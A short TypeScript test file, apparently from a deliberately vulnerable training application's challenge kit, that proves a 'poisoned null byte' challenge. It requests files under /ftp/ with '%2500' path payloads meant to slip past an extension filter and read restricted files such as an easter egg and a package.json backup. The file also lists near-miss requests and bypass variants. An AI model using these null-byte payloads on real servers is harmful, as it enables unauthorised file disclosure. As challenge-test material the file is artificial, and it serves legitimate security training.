import { prove } from '@fruit/challenge-kit/proof'
import { fetchPoisoned, nearMissesOf, spellingsOf } from '../../weaknesses/poisoned-name/fetch-poisoned.ts'
import { challenge } from './challenge.ts'

const NAME = 'eastere.gg'

export const proof = prove(challenge, {
  exploit: (attacker) => fetchPoisoned(attacker, NAME),
  spellings: spellingsOf(NAME),
  nearMisses: {
    ...nearMissesOf(NAME),
    'the egg spelled as it should be': (attacker) => attacker.get('/ftp/easter.egg%2500.md'),
    'another file that stays in the folder': (attacker) => attacker.get('/ftp/package.json.bak%2500.md'),
  },
  bypasses: {
    'refuse-the-reported-name': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
    'cut-at-the-last-zero': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
  },
})
